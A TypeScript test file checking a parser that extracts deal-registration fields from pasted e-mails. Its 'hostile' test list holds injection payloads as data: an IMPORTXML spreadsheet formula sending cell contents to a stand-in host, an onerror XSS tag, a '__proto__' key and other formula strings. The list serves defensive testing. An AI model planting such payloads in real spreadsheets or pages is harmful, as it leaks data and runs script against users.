import fc from "fast-check";
import { submissionFields } from "../../src/contract";
import { registrations } from "../../src/model/registrations";
import { pastedIn } from "../../src/rules/paste";

const columns = Object.fromEntries(submissionFields.map((field) => [field, registrations.columns[field]]));
const taken = (mail: string) => pastedIn(mail, columns).taken;
const left = (mail: string) => pastedIn(mail, columns).left;

it("takes what is labelled, and leaves the rest to be seen", () => {
  const mail = `Hi Ann,

we would like to register a deal:

Partner: Contoso Cloud
Company name: Initech, Inc.
ESTIMATED DEAL SIZE: $50,000
Expected close - Q3 2026
Contact e-mail\tbill@initech.example
Partnership type: co-sell
Existing relationship: no
Shoe size: 42

Thanks, Pat`;
  expect(taken(mail)).toEqual({
    partner: "Contoso Cloud",
    companyName: "Initech, Inc.",
    dealSize: "$50,000",
    closeQuarter: "Q3 2026",
    contactEmail: "bill@initech.example",
    partnershipType: "Co-sell",
    existingRelationship: "no",
  });
  expect(left(mail)).toEqual(["Hi Ann,", "we would like to register a deal:", "Shoe size: 42", "Thanks, Pat"]);
});

it.each([
  ["> Company: Initech", "quoted"],
  ["> > Company: Initech", "quoted twice"],
  ["  company_name :  Initech ", "blanks"],
  ["- Company: Initech", "a list"],
  ["3. Company: Initech", "a numbered list"],
  ["* Company: Initech", "a list of stars"],
  ["*Company:* Initech", "bold as some mail programs write it"],
  ["**Company**: Initech", "bold in Markdown"],
  ["Company – Initech", "a dash"],
  ["Company (legal name): Initech", "brackets"],
  ["Company：Initech", "a wide colon"],
  ["Company:\r\nInitech", "the value on the next line"],
  ["Company:\n\n> Initech", "and further below"],
  ["Company: Initech\rIndustry: ", "a line that says nothing"],
  ["Company: Initech\n\nOn Monday Pat wrote:\n> Company: Globex", "what was written before"],
  ["<table><tr><td>Company</td><td>Initech</td></tr></table>", "a table in HTML"],
  ["<html><style>p{}</style><p>Company:&nbsp;<b>Initech</b></p></html>", "HTML"],
  ["<div>Company: Initech<br>Thanks</div>", "HTML with line ends"],
])("%j: %s", (mail) => {
  expect(taken(mail)).toEqual({ companyName: "Initech" });
});

it.each([
  ["Partnership type: Reseller", "is none of the choices"],
  ["Email: bill@initech.example", "says not whose"],
  ["Stage: Approved", "is not for partners to say"],
  ["Deal ID: DR-0001", "is issued by us"],
  ["Company:", "says nothing"],
  ["Company-Initech", "may be one word"],
  ["We are the partner: trust us", "is a sentence"],
  ["https://example.com/Company: x", "is an address"],
])("leaves %j, which %s", (mail) => {
  expect(pastedIn(mail, columns)).toEqual({ taken: {}, left: [mail] });
});

const hostile = [
  "=1+1",
  '=IMPORTXML("http://x/?"&A1,"//a")',
  "+44 20 7946 0958",
  "-5 Elm Ltd",
  "@SUM(A1)",
  "'=1+1",
  "<img src=x onerror=alert(1)>",
  "Acme & <b>Sons</b> [AE Name]",
  "**",
  "a: b - c",
  "__proto__",
];

it.each(hostile)("S22: keeps %j as it stands", (said) => {
  expect(taken(`Company: ${said}\nIndustry: ${said}`)).toEqual({ companyName: said, industry: said });
});

it("S22: takes nothing that is not in the mail, whatever somebody pastes", () => {
  const labels = Object.values(columns).flatMap(({ title, synonyms = [] }) => [title, ...synonyms]);
  const line = fc.oneof(
    fc.string({ unit: "grapheme" }),
    fc.constantFrom(...hostile),
    fc
      .tuple(
        fc.constantFrom("", "> ", "- ", "*", "2) "),
        fc.constantFrom(...labels, "constructor", "toString"),
        fc.constantFrom(":", ": ", "\t", " - ", " – ", ""),
        fc.oneof(fc.string(), fc.constantFrom(...hostile)),
      )
      .map((parts) => parts.join("")),
  );
  fc.assert(
    fc.property(fc.array(line, { maxLength: 12 }), (lines) => {
      const mail = ["Hello", ...lines].join("\n");
      const told = pastedIn(mail, columns);
      for (const [field, said] of Object.entries(told.taken)) {
        expect(Object.keys(columns)).toContain(field);
        expect(said.trim()).toBe(said);
        expect(said).not.toMatch(/[\r\n]/);
        if (columns[field]?.kind !== "choice") expect(mail).toContain(said);
      }
      for (const one of told.left) expect(mail).toContain(one);
      expect(told.left[0]).toBe("Hello");
    }),
    { numRuns: 1000 },
  );
});

it("is done in time with whatever is long", () => {
  const long = [
    "<div>".repeat(40_000),
    `<div>${"<style>".repeat(30_000)}`,
    "Company - ".repeat(20_000),
    "> ".repeat(100_000),
  ];
  for (const mail of long) expect(() => pastedIn(mail, columns)).not.toThrow();
}, 5000);
